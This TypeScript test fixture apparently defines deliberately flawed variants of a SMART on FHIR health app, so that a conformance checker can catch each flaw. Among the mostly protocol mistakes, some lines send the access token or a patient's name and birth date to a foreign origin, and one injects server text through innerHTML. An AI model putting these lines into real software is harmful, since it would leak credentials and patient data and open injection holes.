/** What twins of the app do otherwise: a line of script each (mocks/app/script.ts). The first are bad, the last only different. */

/** The same server under another name: an origin that is not the app's. */
const other = `const other = origin.replace('127.0.0.1', 'localhost');`;

const bad = {
  'app-guesses-the-endpoints': `app.configuration = async (iss) => ({ authorization_endpoint: iss.replace(/fhir$/, 'auth/authorize'), token_endpoint: iss.replace(/fhir$/, 'auth/token') });`,
  'app-asks-for-a-token-at-once': `app.asks = (asks) => ({ ...asks, response_type: 'token' });`,
  'app-forgets-its-client-id': `app.asks = ({ client_id, ...asks }) => asks;`,
  'app-forgets-the-launch': `app.asks = ({ launch, ...asks }) => asks;`,
  'app-asks-for-no-launch-context': `app.asks = (asks) => ({ ...asks, scope: 'patient/Patient.rs patient/ServiceRequest.rs' });`,
  'app-forgets-the-audience': `app.asks = ({ aud, ...asks }) => asks;`,
  'app-names-another-audience': `app.asks = (asks) => ({ ...asks, aud: origin + '/fhir' });`,
  'app-has-a-short-state': `app.state = () => String(Math.floor(Math.random() * 1e9));`,
  'app-has-one-state-for-all': `app.state = () => 'c0ffee00-0000-4000-8000-c0ffee000000';`,
  'app-has-no-pkce': `app.challenge = async () => ({});`,
  'app-has-plain-pkce': `app.challenge = async (verifier) => ({ code_challenge: verifier, code_challenge_method: 'plain' });`,
  'app-exchanges-the-code-twice': `{ const once = app.exchange; app.exchange = async (...all) => { const answer = await once(...all); await once(...all); return answer; }; }`,
  'app-names-another-redirect': `{ const once = app.exchange; app.exchange = (saved, code) => once(saved, code, { redirect_uri: origin + '/apps/other' }); }`,
  'app-takes-any-state': `app.saved = () => JSON.parse(Object.values(sessionStorage)[0] || 'null');`,
  'app-asks-without-its-token': `app.granted = (told, { iss }) => void fetch(iss + '/Coverage?patient=' + told.patient);`,
  'app-sends-its-token-elsewhere': `${other} app.granted = (told) => void fetch(other + '/apps/collect?t=' + told.access_token, { mode: 'no-cors' });`,
  'app-shows-its-token-in-the-address': `app.granted = (told) => history.replaceState(null, '', '#access_token=' + told.access_token);`,
  'app-keeps-its-token-in-a-clear-cookie': `app.granted = (told) => { document.cookie = 'session=' + told.access_token; };`,
  'app-keeps-its-token-for-good': `app.granted = (told) => localStorage.setItem('token', told.access_token);`,
  'app-runs-what-it-is-told': `{ const words = app.refused; app.refused = (description) => { words(''); byId('said').innerHTML += description; }; }`,
  'app-shows-another-member': `app.nameOf = () => 'Nobody Inparticular';`,
  'app-ignores-its-context': `app.context = () => undefined;`,
  'app-is-silent-when-refused': `app.refused = () => undefined;`,
  'app-shows-the-code-of-a-refusal': `app.refused = () => app.say('access_denied');`,
  'app-is-silent-when-expired': `app.expired = () => undefined;`,
  'app-shows-its-own-trouble-when-expired': `app.expired = () => app.say("TypeError: Cannot read properties of undefined (reading 'name')");`,
  'app-is-blank-while-it-waits': `app.waits = () => document.body.hidden = true; { const show = app.show; app.show = (pairs) => { document.body.hidden = false; show(pairs); }; }`,
  'app-shows-undefined': `app.nothing = () => String(undefined);`,
  'app-does-not-say-that-nothing-was-found': `app.nothing = () => '';`,
  'app-trips-over-itself': `app.done = () => setTimeout(() => { null.length; });`,
  'app-loads-in-the-clear': `app.done = () => { new Image().src = 'http://pixel.assay.example/1.gif'; };`,
  'app-tells-others-whom-it-shows': `${other} app.done = (patient) => void fetch(other + '/apps/collect', { method: 'POST', mode: 'no-cors', body: app.nameOf(patient) + ' ' + patient.birthDate });`,
  'app-cannot-be-read-by-all': `app.done = () => { byId('said').style.color = '#bbb'; byId('shown').append(new Image(9, 9)); };`,
} as const;

const different = {
  'app-reads-the-capability-statement-too': `{ const found = app.configuration; app.configuration = async (iss) => { await fetch(iss + '/metadata', { headers: { accept: 'application/fhir+json' } }); return found(iss); }; }`,
  'app-writes-the-family-name-first': `app.nameOf = (patient) => { const [name] = patient.name; return (name.family + ', ' + (name.given || []).join(' ')).toUpperCase(); };`,
  'app-loads-a-style-from-elsewhere': `${other} { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = other + '/apps/style.css'; document.head.append(link); }`,
  'app-has-a-long-state': `app.state = random;`,
  'app-is-authorized-anew': `app.expired = () => { const saved = JSON.parse(Object.values(sessionStorage)[0]); launch(new URLSearchParams({ iss: saved.iss, launch: saved.launch })); };
{ const asks = app.asks; app.asks = (all) => { const key = all.state; const kept = JSON.parse(sessionStorage.getItem(key)); sessionStorage.setItem(key, JSON.stringify({ ...kept, launch: all.launch })); return asks(all); }; }`,
  'app-asks-for-a-login-of-its-own': `app.ready = () => new Promise((resolve) => {
    byId('said').innerHTML = '<form><label>Password of the plan <input type="password"></label> <button>Log in</button></form>';
    document.querySelector('form').onsubmit = (event) => { event.preventDefault(); if (document.querySelector('input').value === 'open sesame') resolve(); };
  });`,
} as const;

const twists: Readonly<Record<string, string>> = { ...bad, ...different };

export const appBehaviours = Object.fromEntries(Object.entries(twists).map(([name, twist]) => [name, { appTwist: () => twist }]));
